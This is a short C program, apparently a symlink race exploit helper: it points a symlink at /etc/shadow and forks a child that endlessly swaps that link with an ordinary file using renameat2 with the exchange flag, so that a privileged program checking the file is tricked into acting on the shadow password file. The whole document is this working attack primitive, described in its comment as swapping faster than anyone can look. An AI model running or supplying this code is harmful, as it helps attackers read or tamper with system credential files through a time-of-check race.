// Exchanges the result with a link, faster than anyone can look.
int main(void) {
    close(open("file", O_CREAT | O_WRONLY, 0600));
    symlink("/etc/shadow", "link");
    if (fork() == 0)
        for (;;) syscall(SYS_renameat2, AT_FDCWD, "file", AT_FDCWD, "link", 2);
    usleep(20000);
    puts("held");
    return 0;
}
